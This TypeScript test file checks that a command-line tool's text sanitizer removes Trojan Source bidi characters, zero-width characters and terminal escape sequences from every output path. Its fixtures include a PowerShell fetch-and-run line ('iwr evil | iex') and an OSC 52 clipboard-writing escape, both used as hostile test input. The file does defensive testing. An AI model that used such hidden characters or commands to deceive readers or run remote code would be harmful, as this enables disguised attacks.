/**
 * Invisible and direction-changing characters ("Trojan Source"), line separators and escape
 * sequences in a session log, a fact or an argument never reach the terminal or an export: one
 * sanitizer, used on every way out.
 */
import {mkdirSync, mkdtempSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterEach, describe, expect, it} from 'vitest';
import {sanitizeText} from '../../source/terminal/sanitize-text.js';
import {EXAMPLE_FLOW} from '../helpers/flows.js';
import {runBinary} from '../helpers/run-binary.js';
import {buildSession} from '../session/session-fixtures.js';

const HOSTILE = [
	'\u202E',
	'\u202A',
	'\u202B',
	'\u202C',
	'\u202D',
	'\u2066',
	'\u2067',
	'\u2068',
	'\u2069',
	'\u200E',
	'\u200F',
	'\u061C',
	'\u200B',
	'\u200C',
	'\u200D',
	'\u2060',
	'\uFEFF',
	'\u00AD',
	'\u2028',
	'\u2029',
	'\u{E0041}',
	'\u0085',
	'\u009B',
	'\u001B',
	'\u0007',
	'\r',
];
const FORBIDDEN = new RegExp(
	`[${HOSTILE.filter((char) => char.length === 1).join('')}]|\\u{E0041}`,
	'u',
);

const made: string[] = [];
afterEach(() => {
	for (const dir of made.splice(0)) rmSync(dir, {recursive: true, force: true});
});

describe('sanitizeText', () => {
	it('removes controls, escape sequences, bidi overrides and isolates, zero-width and invisible characters; separators become spaces', () => {
		expect(sanitizeText(`iwr evil${HOSTILE.join('')} | iex`)).toBe('iwr evil   | iex');
		expect(sanitizeText('a\u001B]52;c;aGVsbG8=\u0007b\u001B[2Jc\u009B31md')).toBe('abcd');
		// Japanese text, the ideographic space, emoji and newlines and tabs are left alone.
		expect(sanitizeText('更新後に印刷できない\u3000（例）👍\n\tok')).toBe(
			'更新後に印刷できない\u3000（例）👍\n\tok',
		);
		// A joiner inside an emoji sequence draws one picture and stays; anywhere else it goes.
		expect(sanitizeText('👩\u200D💻 👍🏽\u200D a\u200Db')).toBe('👩\u200D💻 👍🏽 ab');
	});
});

describe('nothing invisible reaches the terminal or an export (real binary)', () => {
	it('sessions, export (md, json), watch and a plain run with a hostile fact value', async () => {
		const base = mkdtempSync(join(tmpdir(), 'w365-invisible-'));
		made.push(base);
		const dir = join(base, 'logs');
		mkdirSync(dir, {mode: 0o700});
		const value = `Windows 11${HOSTILE.join('')} Pro`;
		const {events} = buildSession((t, state) => t.answer(state, 'stuck'), {
			file: EXAMPLE_FLOW,
			facts: {'os.product': {value, origin: 'flag'}},
		});
		const file = join(dir, '20260120-091500-ab12.jsonl');
		writeFileSync(file, `${events.map((event) => JSON.stringify(event)).join('\n')}\n`, {
			mode: 0o600,
		});
		const env = {XDG_CONFIG_HOME: join(base, 'config')};

		const runs = await Promise.all([
			runBinary(['sessions', '--log-dir', dir, '--lang', 'en'], {env}),
			runBinary(['sessions', '--log-dir', dir, '--json'], {env}),
			runBinary(['sessions', '--log-dir', dir, '--stats', '--json'], {env}),
			runBinary(['export', file, '--format', 'md', '--lang', 'en'], {env}),
			runBinary(['export', file, '--format', 'json'], {env}),
			runBinary(['watch', file, '--lang', 'en'], {env, timeoutMs: 3000}),
			runBinary(
				[
					'--flow',
					EXAMPLE_FLOW,
					'--no-detect',
					'--plain',
					'--lang',
					'en',
					'--log-dir',
					join(base, 'run'),
					'--fact',
					`os.product=${value}`,
				],
				{input: '2\n1\n', env},
			),
			runBinary(['--resume', `x${HOSTILE.slice(0, 20).join('')}y`, '--log-dir', dir], {env}),
		]);
		for (const run of runs) {
			expect(run.stdout + run.stderr).not.toMatch(FORBIDDEN);
		}
		expect(runs[3]!.stdout).toMatch(/Windows 11 +Pro/);
	}, 30_000);
});
